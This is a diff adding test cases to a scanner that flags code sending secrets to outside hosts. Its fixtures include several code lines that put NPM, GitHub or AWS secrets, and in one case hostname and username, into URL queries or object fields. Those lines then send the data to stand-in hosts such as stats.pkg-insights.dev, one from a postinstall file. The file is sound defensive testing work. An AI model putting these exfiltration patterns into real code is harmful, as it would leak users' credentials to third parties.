@@ -4469,6 +4469,29 @@ describe('suspicious-network-endpoint: a secret kept in a name and sent later, o
     expect(sent('src/up.py', ['requests.post("https://aws-region-status.com/r", json={"k": os.environ["AWS_SECRET_ACCESS_KEY"]})'])?.severity).toBe('critical');
     expect(sent('src/up.ts', ["await fetch('https://registry.npmjs.org/-/npm/v1/tokens', { method: 'POST', body: JSON.stringify({ t: process.env.NPM_TOKEN }) });"])).toBeUndefined();
   });
+  const pad = ['const a = 1;', 'const b = 2;', 'const c = 3;', 'const d = 4;', 'const e = 5;'];
+  it('follows a key put in a URL\'s query (url.searchParams.set / .append) to the request that fetches the URL, lines or functions later (since 2026-12-02)', () => {
+    expect(sent('src/postinstall.ts', ["const url = new URL('https://stats.pkg-insights.dev/v1/c');", "url.searchParams.set('k', process.env.NPM_TOKEN ?? '');", "url.searchParams.set('v', pkg.version);", ...pad, 'await fetch(url);'])).toMatchObject({ severity: 'high', line: 19 });
+    expect(sent('lib/ping.js', ["const SINK = 'https://stats.pkg-insights.dev/v1/c';", 'function build() {', '  const url = new URL(SINK);', "  url.searchParams.append('k', process.env.NPM_TOKEN);", "  url.searchParams.append('h', os.hostname());", "  url.searchParams.append('u', os.userInfo().username);", "  url.searchParams.append('p', process.platform);", "  url.searchParams.append('c', process.cwd());", '  return https.get(url.toString());', '}'])?.severity).toBe('high');
+    expect(sent('lib/beacon.js', ["const url = new URL('/v1/c', 'https://stats.pkg-insights.dev');", 'function collect() {', "  url.searchParams.set('k', process.env.GITHUB_TOKEN);", '}', 'function a1() {}', 'function a2() {}', 'function send() {', '  https.get(url.href, () => {});', '}'])?.severity).toBe('high');
+  });
+  it('is quiet on an API client that puts its own service\'s key, or a key from its configuration, in the query of a URL of that service', () => {
+    expect(sent('src/mail.ts', ["const url = new URL('https://api.mailfox.net/v3/send');", "url.searchParams.set('api_key', process.env.MAILFOX_API_KEY ?? '');", "url.searchParams.set('to', to);", ...pad, "await fetch(url, { method: 'POST' });"])).toBeUndefined();
+    expect(sent('src/weather.ts', ['export class Client {', "  private base = new URL('https://api.acme-weather.dev/v2/');", '  async current(city: string) {', "    const url = new URL('current', this.base);", "    url.searchParams.set('q', city);", "    url.searchParams.set('appid', this.apiKey);", '    return fetch(url);', '  }', '}'])).toBeUndefined();
+    expect(sent('pkg/maps/maps.go', ['func Geocode(addr string) (*Result, error) {', '\tu, _ := url.Parse("https://maps.googleapis.com/maps/api/geocode/json")', '\tq := u.Query()', '\tq.Set("address", addr)', '\tq.Set("key", os.Getenv("GOOGLE_MAPS_API_KEY"))', '\tu.RawQuery = q.Encode()', '\tresp, err := http.Get(u.String())', '\treturn decode(resp, err)', '}'])).toBeUndefined();
+  });
+  it('follows a key stored in a field of an object of the file (state.token = …, this.cache.creds.k = …) to another function that sends the object (since 2026-12-02)', () => {
+    expect(sent('lib/state.js', ['const state = {};', 'function grab() {', '  state.token = process.env.NPM_TOKEN;', '}', 'function a() {}', 'function b() {}', 'async function send() {', "  await fetch('https://metrics.pkg-insights.dev/r', { method: 'POST', body: JSON.stringify(state) });", '}'])).toMatchObject({ severity: 'high', line: 18 });
+    expect(sent('src/agent.ts', ['class Agent {', '  private cache: Record<string, string> = {};', '  init() {', "    this.cache.creds.k = process.env.AWS_SECRET_ACCESS_KEY ?? '';", '  }', '  a() {}', '  b() {}', '  async flush() {', "    await fetch('https://sync.cloud-stats.dev/f', { method: 'POST', body: JSON.stringify(this.cache) });", '  }', '}'])?.severity).toBe('high');
+    expect(sent('pkg/stats/stats.go', ['func report() {', '\tu, _ := url.Parse("https://stats.pkg-insights.dev/c")', '\tq := u.Query()', '\tq.Set("k", os.Getenv("NPM_TOKEN"))', '\tq.Set("h", hostname())', '\tq.Set("a", "1")', '\tq.Set("b", "2")', '\tu.RawQuery = q.Encode()', '\thttp.Get(u.String())', '}'])?.severity).toBe('high');
+  });
+  it('is quiet when another field of the object is sent, the field goes as a header or to its own service, or the object configures a client', () => {
+    const filled = ['const state = { count: 0 };', 'function init() {', '  state.token = process.env.GITHUB_TOKEN;', '}', 'function a() {}', 'function b() {}', 'async function ping() {'];
+    expect(sent('lib/ping.js', [...filled, "  await fetch('https://telemetry.acme-tools.dev/ping', { method: 'POST', body: JSON.stringify({ n: state.count }) });", '}'])).toBeUndefined();
+    expect(sent('lib/ping.js', [...filled, "  await fetch('https://telemetry.acme-tools.dev/ping', { method: 'POST', headers: { authorization: `token ${state.token}` }, body: '{}' });", '}'])).toBeUndefined();
+    expect(sent('lib/publish.js', ['const config = {};', 'function load() {', '  config.token = process.env.NPM_TOKEN;', '}', 'function a() {}', 'function b() {}', 'async function publish() {', "  await fetch('https://registry.npmjs.org/-/npm/v1/x', { method: 'PUT', body: JSON.stringify(config) });", '}'])).toBeUndefined();
+    expect(sent('mypkg/upload.py', ['class Uploader:', '    def __init__(self):', '        self.opts = {}', '        self.opts["aws_secret_access_key"] = os.environ["AWS_SECRET_ACCESS_KEY"]', '        self.client = boto3.client("s3", **self.opts)', '        self.a = 1', '', '    def notify(self):', '        requests.post("https://hooks.acme-chat.dev/n", json={"text": "uploaded"})'])).toBeUndefined();
+  });
 });
 
 describe('sql-parameters-dropped: a bound value spliced into the query text in a "cleanup"', () => {
